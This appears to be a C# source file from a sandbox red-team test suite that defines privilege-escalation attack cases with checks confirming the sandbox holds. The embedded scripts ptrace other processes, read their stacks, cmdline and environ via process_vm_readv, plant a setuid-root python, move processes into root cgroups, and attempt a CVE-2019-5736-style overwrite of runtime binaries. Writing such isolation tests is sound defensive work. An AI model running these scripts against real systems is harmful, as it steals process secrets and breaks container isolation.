using Airlock.RedTeam.Host.Checks;
using Airlock.RedTeam.Model;

namespace Airlock.RedTeam.Cases.Privilege;

/// <summary>Reaching other processes and gaining privilege: ptrace, process_vm_readv, setuid binaries, cgroup moves.</summary>
internal static class ProcessAttacks
{
    public static IEnumerable<IAttackCase> All()
    {
        yield return new ScriptAttack
        {
            Category = Categories.Privilege,
            Name = "ptrace-outside",
            Attempts = "PTRACE_SEIZE every visible pid and the host canary's and the engine's pid numbers, and PTRACE_ATTACH all but its own ancestors; host: the canary's TracerPid stays 0",
            Python = true,
            // Root in a microVM may trace its own guest's processes: ATTACH stops its target, and stopping this
            // exec's own agent would hang the case, so ancestors are only seized (which does not stop them).
            Script = c => Attack.Py + $$"""
                def ppid(p):
                    try: return int([l for l in open(f'/proc/{p}/status') if l.startswith('PPid:')][0].split()[1])
                    except (OSError, IndexError): return 0
                mine, p = set(), os.getpid()
                while p > 0 and p not in mine:
                    mine.add(p); p = ppid(p)
                pids = sorted(set([int(p) for p in os.listdir('/proc') if p.isdigit()] + [{{c.Markers.CanaryPid ?? 1}}, {{Environment.ProcessId}}, 1]))
                for pid in pids:
                    if pid == os.getpid(): continue
                    r = sc(101, 0x4206, pid, 0, 0)
                    r2 = sc(101, 16, pid, 0, 0) if pid not in mine else 'not attached (an ancestor)'
                    say('ptrace', pid, r, r2)
                hold(1)
                """,
            Checks = () => [new CanaryNotTraced()],
        };
        yield return new ScriptAttack
        {
            Category = Categories.Privilege,
            Name = "process-vm-readv",
            Attempts = "process_vm_readv of the host canary's and the engine's stacks, and reading their /proc cmdline and environ; host: no host secret in the output",
            Python = true,
            Script = c => Attack.Py + $$"""
                class iovec(ctypes.Structure):
                    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
                buf = ctypes.create_string_buffer(4096)
                for pid in [{{c.Markers.CanaryPid ?? 1}}, {{Environment.ProcessId}}]:
                    for path in [f'/proc/{pid}/cmdline', f'/proc/{pid}/environ']:
                        try: say(open(path, 'rb').read()[:4096])
                        except OSError as e: say(path, e)
                    try:
                        maps = open(f'/proc/{pid}/maps').read().splitlines()
                        regions = [tuple(int(x, 16) for x in l.split()[0].split('-')) for l in maps if '[stack]' in l]
                    except OSError as e:
                        regions = [(0x7ffffffde000, 0x7ffffffff000)]
                    for lo, hi in regions:
                        for addr in range(lo, hi, 4096):
                            local = iovec(ctypes.cast(buf, ctypes.c_void_p), 4096); remote = iovec(addr, 4096)
                            n = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
                            if n > 0: sys.stdout.write(buf.raw[:n].decode('latin-1'))
                    say('process_vm_readv', pid, os.strerror(ctypes.get_errno()))
                """,
        };
        yield return new ScriptAttack
        {
            Category = Categories.Privilege,
            Name = "setuid-binary",
            Attempts = "a setuid-root copy of python run as uid 65534 (no_new_privs must void it), held; host: no sandbox process gains an effective uid different from its real uid",
            Python = true,
            Script = _ => Attack.Py + """
                import shutil, subprocess
                shutil.copy('/usr/bin/python3', '/tmp/supy'); os.chown('/tmp/supy', 0, 0); os.chmod('/tmp/supy', 0o4755)
                code = "import os, time; print('euid', os.geteuid(), flush=True); time.sleep(3)"
                p = subprocess.run(['/tmp/supy', '-c', code], preexec_fn=lambda: (os.setgid(65534), os.setuid(65534)), capture_output=True, text=True)
                say(p.stdout.strip(), p.stderr.strip()[-200:])
                """,
        };
        yield return new ScriptAttack
        {
            Category = Categories.Privilege,
            Name = "cgroup-move",
            Attempts = "a marked process writes itself into the root cgroups (every cgroup.procs it can reach, after mounting cgroupfs); host: every marked host process is still in the sandbox's cgroups",
            Script = c => $$"""
                (mkdir -p /tmp/cg && mount -t cgroup -o memory none /tmp/cg; mount -t cgroup2 none /tmp/cg2) 2>&1
                sh -c 'for f in /sys/fs/cgroup/cgroup.procs /sys/fs/cgroup/*/cgroup.procs /tmp/cg/cgroup.procs /tmp/cg2/cgroup.procs; do echo $$ > $f 2>/dev/null && echo moved via $f; done; sleep 4' airlock-rt-{{c.Nonce}} &
                sleep 2; cat /proc/self/cgroup | head -3
                """,
            Checks = () => [new ProcessesConfined()],
        };
        yield return new ScriptAttack
        {
            Category = Categories.Privilege,
            Name = "runtime-overwrite",
            Attempts = "CVE-2019-5736 class: open /proc/*/exe, /proc/self/exe and /.airlock/agent for writing and append a byte; host: runc, runsc, QEMU and the agent binary hash the same",
            Python = true,
            Script = _ => Attack.Py + """
                targets = ['/proc/self/exe', '/.airlock/agent'] + [f'/proc/{p}/exe' for p in os.listdir('/proc') if p.isdigit()]
                for t in targets:
                    for flags in [os.O_WRONLY | os.O_APPEND, os.O_RDWR]:
                        try:
                            fd = os.open(t, flags); os.write(fd, b'\0'); os.close(fd); say('wrote', t)
                        except OSError as e:
                            say(t, e.strerror)
                """,
            Checks = () => [new HostBinariesUnchanged()],
        };
    }
}
